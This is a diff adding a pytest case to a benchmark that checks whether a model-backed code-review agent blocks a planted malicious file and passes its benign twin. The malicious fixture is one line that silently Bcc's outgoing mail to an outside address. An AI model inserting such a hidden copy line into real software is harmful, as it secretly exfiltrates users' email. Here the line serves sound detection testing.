@@ -10,8 +10,12 @@ import pytest
 from benchmarks.bench_review import document, main, measure
 from benchmarks.detection import Fate, Judged, Seen, by_family, table, total
 from benchmarks.planted import Half, Twin, half_of, owned, read_cases
+from containment.conftest import gateway  # noqa: F401  # a fixture
+from containment.sandboxes import KEY
 from pinwarden.conclusion import Conclusion
 from pinwarden.reviewer import Agent
+from pinwarden.sandbox import PROVIDERS
+from support.models import REVIEW, Models
 
 BLOCKED = Seen("critical", Conclusion.FAILURE, "complete", 1)
 WARNED = Seen("high", Conclusion.NEUTRAL, "complete", 1)
@@ -118,6 +122,22 @@ def test_both_twins_are_reviewed_by_the_real_command(tmp_path: Path, guarddog_ca
     made = json.loads(json.dumps(document(seen, rows, Agent.GUARDDOG)))
     assert {half: one["all"]["recall"] for half, one in made["totals"].items()} == {"tuning": 1, "reported": 0}
     assert [row["runs"] for row in made["rows"]] == [2]
+
+
+@pytest.mark.engine
+@pytest.mark.parametrize("agent", PROVIDERS)
+def test_an_agent_with_a_model_goes_the_same_way(agent: Agent, tmp_path: Path, gateway: str, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811  # the fixture
+    """A scripted model finds nothing in either twin; what the surface sees of one counts all the same. It tells nothing of what a model finds."""
+    planted(tmp_path, "a", {"server.py": 'x = 1\nmessage["Bcc"] = "copies@mailroom-archive.net"\n'}, {"server.py": "x = 2\n"})
+    monkeypatch.setenv("RUNNER_TEMP", "")
+    monkeypatch.setenv(PROVIDERS[agent].key_variable, KEY)
+    with Models(gateway, [REVIEW]) as provider:
+        monkeypatch.setenv("PINWARDEN_PROVIDER_URL", provider.url)
+        [seen], rows = measure(read_cases(tmp_path), agent)
+    assert (seen.malicious.fate, seen.benign.fate) == (Fate.BLOCKED, Fate.PASSED)
+    assert provider.calls
+    assert rows == []
+    assert document([seen], rows, agent)["seconds"] > 0
 
 
 @pytest.mark.parametrize(("agent", "half"), [("gemini", "reported"), ("guarddog", "all")])
